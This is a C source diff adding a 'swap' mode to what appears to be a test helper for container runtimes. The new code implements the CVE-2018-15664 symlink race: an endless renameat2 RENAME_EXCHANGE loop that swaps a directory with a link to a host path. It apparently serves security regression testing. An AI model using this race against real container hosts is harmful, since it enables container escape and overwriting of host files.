@@ -142,6 +142,16 @@ static int names(void) {
   return 0;
 }
 
+/* CVE-2018-15664: each two files, say a directory and a link to one of the host's, take each other's name as often as
+ * they can. */
+static int swap(char **files) {
+  printf("ready\n");
+  fflush(stdout);
+  for (;;)
+    for (char **pair = files; *pair; pair += 2)
+      if (renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE) < 0) return 1;
+}
+
 int main(int argc, char **argv) {
   if (argc < 3) return 2;
   ssize_t size = readlink("/proc/self/exe", own_exe, sizeof own_exe - 1);
@@ -149,5 +159,6 @@ int main(int argc, char **argv) {
   if (!strcmp(argv[1], "watch")) return watch(atol(argv[2]));
   if (!strcmp(argv[1], "overwrite")) return overwrite(atol(argv[2]));
   if (!strcmp(argv[1], "names")) return names();
+  if (!strcmp(argv[1], "swap") && argc % 2 == 0) return swap(argv + 2);
   return 2;
 }
